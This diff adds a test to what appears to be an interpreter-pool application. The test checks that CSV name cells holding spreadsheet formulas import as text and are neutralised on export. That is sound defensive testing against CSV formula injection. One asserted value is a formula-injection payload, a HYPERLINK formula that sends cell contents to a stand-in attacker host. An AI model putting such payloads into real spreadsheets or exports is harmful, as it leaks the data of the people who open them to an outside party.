@@ -21,6 +21,7 @@ from rris.services.pool_import import RowAction, apply_import, export_pool, prev
 from tests import factories
 from tests.conftest import DEFAULT_NOW
 from tests.domain.test_pool_csv import csv_of
+from tests.support.spreadsheets import HOSTILE, unsafe_csv_cells
 
 NEW = {
     "email": "farid@pool.example",
@@ -139,3 +140,25 @@ def test_only_coordinators_import_or_export_the_pool(ctx, mariam):
             apply_import(csv_of(NEW), actor, DEFAULT_NOW)
         with pytest.raises(Forbidden):
             export_pool(actor)
+
+
+def test_names_that_look_like_formulas_come_back_out_as_text_and_import_back_unchanged(hub, mariam):
+    """A file with formulas for names (one behind a tab or CR that import strips) is imported
+    as text; the export marks every such cell, and imports back without a change."""
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=list(NEW))
+    writer.writeheader()
+    for number, name in enumerate(HOSTILE):
+        writer.writerow({**NEW, "email": f"formula{number}@pool.example", "name": name})
+    report = apply_import(out.getvalue(), hub, DEFAULT_NOW)
+    assert report.applied, report.rows
+    stored = set(db.session.scalars(select(User.name).where(User.role == Role.INTERPRETER)))
+    assert {'=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "+SUM(1,2)", "=1+1"} <= stored
+
+    exported = export_pool(hub)
+    assert unsafe_csv_cells(exported) == []
+    names = {row["name"] for row in csv.DictReader(io.StringIO(exported))}
+    assert {"'+SUM(1,2)", "'=1+1", "'-2+3", "'@SUM(1,2)"} <= names
+    again = apply_import(exported, hub, DEFAULT_NOW)
+    assert {o.action for o in again.rows} == {RowAction.UNCHANGED}
+    assert export_pool(hub) == exported
